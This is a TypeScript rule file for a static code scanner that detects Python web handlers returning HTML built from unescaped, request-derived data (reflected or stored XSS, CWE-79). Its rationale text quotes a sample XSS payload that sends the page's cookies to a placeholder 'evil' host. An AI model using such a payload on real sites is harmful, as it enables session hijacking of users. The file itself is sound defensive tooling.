import type { SgNode } from '@ast-grep/napi'
import { defineRule, type RuleContext } from '../../../engine/rule.js'
import { calleeText, nonConstant } from '../_utils/common.js'
import { callee, external, imports, kwarg, positional, PY, shape, strValue, values } from '../_utils/py.js'
import { HTML_SANITIZERS } from './no-unescaped-markup.js'

const RESPONSES =
  /^(?:django\.http\.HttpResponse|django\.http\.response\.HttpResponse|HttpResponse|flask\.make_response|make_response|flask\.Response|werkzeug\.Response|werkzeug\.wrappers\.Response|fastapi\.responses\.HTMLResponse|starlette\.responses\.HTMLResponse|HTMLResponse|fastapi\.Response|starlette\.responses\.Response|Response)$/
const HTML_TAG = /<[a-zA-Z!/][^<>]*>?|<\/?[a-z]/
const ROUTE = /@\w+(?:\.\w+)*\.(?:route|get|post|put|delete|patch)\s*\(|@route\s*\(|@(?:get|post)\s*\(/

/** The route decorator text of the function around `node`, if it is a web handler. */
function routeDecorators(ctx: RuleContext, node: SgNode): string | null {
  const fn = ctx.flow.enclosingFunction(node)
  const parent = fn?.parent()
  if (!fn || parent?.kind() !== 'decorated_definition') return null
  const decorators = parent.children().filter((c) => c.kind() === 'decorator').map((c) => c.text()).join('\n')
  return ROUTE.test(decorators) ? decorators : null
}

/** Non-constant data reaches the HTML unescaped: an HTML literal built with data, or external input alone. */
function unsafeHtml(ctx: RuleContext, value: SgNode): boolean {
  if (!nonConstant(ctx, value, PY, { sanitizers: HTML_SANITIZERS })) return false
  const s = shape(ctx, value)
  if (s.built && HTML_TAG.test(s.literals.join(''))) return true
  // Request data echoed as the whole body: text/html by default in Flask and Django.
  return values(ctx, value).some((v) => {
    const k = v.kind()
    const plain = k === 'subscript' || k === 'attribute' || k === 'identifier' || (k === 'call' && /\.(?:get|getlist|get_data)$|^str$/.test(calleeText(ctx, v)))
    // Only request data echoed back; a proxied upstream body is not built from markup here.
    return plain && /^(?:str\()?(?:self\.)?request\./.test(v.text()) && external(ctx, v, { sanitizers: HTML_SANITIZERS, numericSanitizes: true })
  })
}

export default defineRule({
  id: 'python/no-html-response-from-untrusted',
  languages: ['python'],
  title: 'HTML response built from unescaped data',
  property: 'injection.xss',
  cwe: ['CWE-79'],
  severity: 'high',
  confidence: 'medium',
  message: '{{SINK}} sends HTML that contains unescaped non-constant data',
  rationale:
    'A response body built by string formatting bypasses template auto-escaping: a name such as <script>fetch("//evil/?c="+document.cookie)</script> in the data runs in the browser of whoever views the page (reflected or stored XSS, CWE-79).',
  safeAlternative: 'Render a template with auto-escaping (render_template, render) or escape every value with html.escape / markupsafe.escape before putting it into markup; return JSON with jsonify for data.',
  match: {
    rule: {
      any: [
        { kind: 'call', has: { field: 'function', regex: '^(?s:.*?\\.)?(?:HttpResponse|make_response|Response|HTMLResponse)$' } },
        // Returns of route handlers (decorated functions) only.
        { kind: 'return_statement', has: { any: [{ kind: 'binary_operator' }, { kind: 'string' }, { kind: 'identifier' }, { kind: 'subscript' }, { kind: 'call' }], stopBy: 'neighbor' }, inside: { kind: 'decorated_definition', stopBy: 'end' } },
      ],
    },
  },
  // Response constructors, or the `@` of the route decorators (ROUTE) that a reported return needs:
  // `.get` and the other verbs are in every dict lookup.
  requires: { words: ['Response', 'make_response', '@'] },
  check(node, ctx) {
    if (node.kind() === 'return_statement') {
      const value = node.namedChildren()[0]
      if (!value) return false
      const decorators = routeDecorators(ctx, node)
      if (!decorators) return false
      const usesFastApi = [...imports(ctx).names.values()].some((m) => /^(?:fastapi|starlette|litestar)\b/.test(m))
      if (usesFastApi && !/response_class\s*=\s*HTMLResponse/.test(decorators)) return false
      if (value.kind() === 'call' && !/^(?:str|\w+\.format|\w+\.join|.*\.get)$/.test(calleeText(ctx, value)) && !/\.format$|\.join$/.test(calleeText(ctx, value))) return false
      if (!unsafeHtml(ctx, value)) return false
      return { data: { SINK: 'the handler\'s return value' } }
    }
    const name = callee(ctx, node)
    if (!RESPONSES.test(name)) return false
    const mods = [...imports(ctx).names.values()]
    if (/^(?:Response|fastapi\.Response|starlette\.responses\.Response)$/.test(name) && mods.some((m) => /^rest_framework\b/.test(m)) && name === 'Response') return false
    const type = kwarg(node, 'content_type') ?? kwarg(node, 'mimetype') ?? kwarg(node, 'media_type')
    const typeValue = strValue(type)
    if (type && (typeValue === undefined || !/html/i.test(typeValue))) return false
    if (!type && /^(?:fastapi\.Response|starlette\.responses\.Response)$/.test(name)) return false
    const value = positional(node)[0] ?? kwarg(node, 'content') ?? kwarg(node, 'response')
    if (!value || !unsafeHtml(ctx, value)) return false
    return { data: { SINK: name } }
  },
})
